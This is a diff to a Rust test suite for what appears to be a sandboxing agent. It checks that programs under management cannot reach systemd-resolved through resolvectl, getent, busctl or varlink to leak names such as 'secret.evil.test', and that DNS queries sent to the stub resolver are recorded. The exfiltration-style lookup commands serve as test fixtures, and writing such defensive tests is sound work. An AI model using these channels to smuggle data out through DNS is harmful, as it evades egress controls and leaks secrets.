@@ -199,43 +199,110 @@ fn no_record_tells_of_encrypted_names_and_labels_carry_nothing_out() -> Result<(
     names.nothing_else_got_out()
 }
 
+/// Ways to have systemd-resolved ask for a name: with its command, by the C library, over D-Bus and at its varlink socket,
+/// whose answer may be an error.
+const RESOLVED: [&str; 4] = [
+    "resolvectl query NAME",
+    "getent -s resolve ahosts NAME",
+    "busctl call org.freedesktop.resolve1 /org/freedesktop/resolve1 org.freedesktop.resolve1.Manager ResolveHostname isit 0 NAME 0 0",
+    "python3 /opt/clients/varlink.py NAME",
+];
+const VARLINK: &str = r#"
+import json, socket, sys
+asked = {"method": "io.systemd.Resolve.ResolveHostname", "parameters": {"name": sys.argv[1]}}
+resolved = socket.socket(socket.AF_UNIX)
+resolved.connect("/run/systemd/resolve/io.systemd.Resolve")
+resolved.sendall(json.dumps(asked).encode() + b"\0")
+told = resolved.recv(65536)
+sys.exit("error" in json.loads(told[:-1]))
+"#;
+
+impl Names {
+    /// With a systemd-resolved that whoever is not managed may ask.
+    fn with_resolved() -> Result<Self> {
+        let names = Self::new()?;
+        let bed = &names.host.0;
+        if !bed.systemctl(&["start", "systemd-resolved"])?.status.success() {
+            bail!(
+                "systemd-resolved does not start: {}",
+                bed.journal("systemd-resolved")?
+            );
+        }
+        names.host.client("varlink.py", VARLINK)?;
+        for script in RESOLVED.map(|script| script.replace("NAME", API)) {
+            bed.sh(&script)?.ok()?;
+            bed.run([
+                "setpriv",
+                "--reuid",
+                USER,
+                "--regid",
+                USER,
+                "--init-groups",
+                "sh",
+                "-c",
+                &script,
+            ])?
+            .ok()?;
+        }
+        Ok(names)
+    }
+
+    fn asked_outside(&self, name: &str) -> Result<bool> {
+        Ok(self.server.arrived()?.iter().any(|one| one.path == name))
+    }
+}
+
 #[test]
 fn systemd_resolved_does_not_ask_for_a_managed_program() -> Result<()> {
     require!(Root, CgroupV2, Btf, Runtimes);
-    let names = Names::new()?;
-    let bed = &names.host.0;
-    if !bed.systemctl(&["start", "systemd-resolved"])?.status.success() {
-        bail!(
-            "systemd-resolved does not start: {}",
-            bed.journal("systemd-resolved")?
-        );
-    }
-    // Unmanaged, its ways are open.
-    let open = bed.sh(&format!(
-        "resolvectl query {API} && getent -s resolve ahosts {API}"
-    ))?;
-    assert!(open.status.success(), "{open:?}");
-    for way in AS_ROOT {
-        let varlink =
-            "import socket; socket.socket(socket.AF_UNIX).connect('/run/systemd/resolve/io.systemd.Resolve')";
-        for script in [
-            "resolvectl query secret.evil.test",
-            "getent -s resolve ahosts secret.evil.test",
-            "busctl call org.freedesktop.resolve1 /org/freedesktop/resolve1 org.freedesktop.resolve1.Manager ResolveHostname isit 0 secret.evil.test 0 0",
-            &format!("python3 -c \"{varlink}\""),
-        ] {
-            let closed = names.host.run(*way, script)?;
-            assert!(!closed.status.success(), "{script}: {closed:?}");
+    let names = Names::with_resolved()?;
+    for way in WAYS {
+        for script in RESOLVED {
+            let closed = names.host.run(*way, &script.replace("NAME", API))?;
+            assert!(!closed.status.success(), "{way:?} {script}: {closed:?}");
+            let closed = names
+                .host
+                .run(*way, &script.replace("NAME", "secret.evil.test"))?;
+            assert!(!closed.status.success(), "{way:?} {script}: {closed:?}");
         }
         // Its stub is the agent's for a managed program.
+        let name = format!("stub-{way:?}.evil.test").to_lowercase();
         let told = names
             .host
-            .run(*way, "dig @127.0.0.53 +time=5 +tries=1 stub.evil.test")?
+            .run(*way, &format!("dig @127.0.0.53 +time=5 +tries=1 {name}"))?
             .ok()?;
-        assert!(told.contains("status: NXDOMAIN"), "{told}");
-        names.recorded("stub.evil.test", "udp")?;
+        assert!(told.contains("status: NXDOMAIN"), "{way:?}: {told}");
+        names.recorded(&name, "udp")?;
         let found = names.host.run(*way, &format!("getent ahosts {API}"))?.ok()?;
-        assert!(ADDRESSES.iter().all(|address| found.contains(address)), "{found}");
+        assert!(
+            ADDRESSES.iter().all(|address| found.contains(address)),
+            "{way:?}: {found}"
+        );
     }
     names.nothing_else_got_out()
+}
+
+#[test]
+fn systemd_resolved_asks_for_a_command_that_an_ordinary_user_starts() -> Result<()> {
+    require!(Root, CgroupV2, Btf, Runtimes);
+    let names = Names::with_resolved()?;
+    // Nothing can be mounted over its sockets there; SECURITY.md says so.
+    for (number, script) in RESOLVED.iter().enumerate() {
+        let name = format!("secret-{number}.evil.test");
+        let told = names.host.run(Way::ExecBy, &script.replace("NAME", &name))?;
+        assert!(names.asked_outside(&name)?, "{script}: {told:?}");
+        names.host.run(Way::ExecBy, &script.replace("NAME", API))?.ok()?;
+    }
+    // What it asks the network for is the agent's to answer.
+    let name = "secret-stub.evil.test";
+    let dig = format!("dig @127.0.0.53 +time=5 +tries=1 {name}");
+    let told = names.host.run(Way::ExecBy, &dig)?.ok()?;
+    assert!(told.contains("status: NXDOMAIN"), "{told}");
+    names.recorded(name, "udp")?;
+    assert!(!names.asked_outside(name)?);
+    // The agent saw nothing of the others.
+    let records = names.host.0.records()?;
+    let told = |one: &&Record| one.text("kind") == "dns" && one.text("authority") != format!("{name}.");
+    assert_eq!(records.iter().find(told), None);
+    Ok(())
 }
